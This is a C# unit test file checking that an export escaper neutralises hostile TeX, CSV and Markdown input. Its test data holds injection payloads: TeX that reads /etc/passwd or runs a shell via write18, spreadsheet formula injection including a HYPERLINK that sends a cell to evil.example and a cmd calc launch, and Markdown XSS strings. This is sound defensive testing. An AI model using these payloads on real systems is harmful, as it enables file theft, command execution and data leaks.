namespace Hypergrid.Findings.Tests;

/// <summary>The escapers every export goes through: what TeX, a spreadsheet or a Markdown renderer would act on is left inert.</summary>
public sealed class InertTests
{
    [Theory]
    [InlineData("^^5cinput^^7b/etc/passwd^^7d")]
    [InlineData("\\input{/etc/passwd}")]
    [InlineData("a_b#c$d%e&f{g}h~i^j\\k")]
    [InlineData("^^M^^J^^I^^?^^@")]
    [InlineData("}\\end{tabular}\\immediate\\write18{touch x}")]
    [InlineData("line\n\\input{x}")]
    [InlineData("\\catcode`\\^=7 ^^5c")]
    public void Tex_leaves_no_special_character_unescaped(string hostile)
    {
        var tex = Inert.Tex(hostile);
        // What is left once the escapes are taken out holds none of TeX's specials and no line break.
        var rest = tex.Replace("\\textbackslash{}", "").Replace("\\textasciitilde{}", "").Replace("\\textasciicircum{}", "");
        foreach (var escaped in new[] { "\\{", "\\}", "\\#", "\\$", "\\%", "\\&", "\\_" }) rest = rest.Replace(escaped, "");
        Assert.DoesNotContain(rest, c => c is '\\' or '{' or '}' or '#' or '$' or '%' or '&' or '_' or '~' or '^' or '\n' or '\r');
        Assert.DoesNotContain("^^", tex);
    }

    [Theory]
    [InlineData("lr", "lr")]
    [InlineData("weight_decay", "weight\\_decay")]
    [InlineData("^^5c", "\\textasciicircum{}\\textasciicircum{}5c")]
    [InlineData("a\\b", "a\\textbackslash{}b")]
    [InlineData("{x}", "\\{x\\}")]
    public void Tex_prints_each_character_as_written(string text, string tex) => Assert.Equal(tex, Inert.Tex(text));

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/\"&A1,\"click\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("-")]
    public void Csv_cells_that_would_start_a_formula_begin_with_an_apostrophe(string hostile)
    {
        var cell = Unquote(Inert.Csv(hostile));
        Assert.Equal('\'', cell[0]);
        Assert.Equal("'" + hostile, cell);
    }

    [Theory]
    [InlineData("-0.0123")]
    [InlineData("-1E-05")]
    [InlineData("+3")]
    [InlineData("0.5")]
    [InlineData("sweep/mnist")]
    [InlineData("lr=0.1;act=\"relu\"")]
    public void Csv_numbers_and_plain_text_stay_as_they_are(string text) => Assert.Equal(text, Unquote(Inert.Csv(text)));

    [Theory]
    [InlineData("a,b")]
    [InlineData("say \"hi\"")]
    [InlineData("two\nlines")]
    public void Csv_cells_with_commas_quotes_or_line_breaks_are_quoted(string text)
    {
        var cell = Inert.Csv(text);
        Assert.StartsWith("\"", cell);
        Assert.Equal(text, Unquote(cell));
    }

    [Theory]
    [InlineData("a|b", "a\\|b")]
    [InlineData("x\ny", "x y")]
    [InlineData("<img src=x onerror=alert(1)>", "\\<img src=x onerror=alert(1)\\>")]
    [InlineData("[link](javascript:alert(1))", "\\[link\\](javascript:alert(1))")]
    [InlineData("**bold** `code` _i_", "\\*\\*bold\\*\\* \\`code\\` \\_i\\_")]
    [InlineData("a\\|b", "a\\\\\\|b")]
    public void Markdown_escapes_what_would_break_a_table_or_start_markup(string text, string md) => Assert.Equal(md, Inert.Markdown(text));

    [Theory]
    [InlineData("a|b|c")]
    [InlineData("|||")]
    [InlineData("x\\|y\r\n|z")]
    public void A_markdown_cell_never_holds_an_unescaped_pipe_or_line_break(string text)
    {
        var md = Inert.Markdown(text);
        Assert.DoesNotContain('\n', md);
        Assert.DoesNotContain('\r', md);
        // Every pipe is preceded by an odd number of backslashes.
        for (var i = md.IndexOf('|'); i >= 0; i = md.IndexOf('|', i + 1))
        {
            var slashes = 0;
            while (i - 1 - slashes >= 0 && md[i - 1 - slashes] == '\\') slashes++;
            Assert.True(slashes % 2 == 1, $"unescaped | at {i} in {md}");
        }
    }

    private static string Unquote(string cell) => cell.StartsWith('"') ? cell[1..^1].Replace("\"\"", "\"") : cell;
}
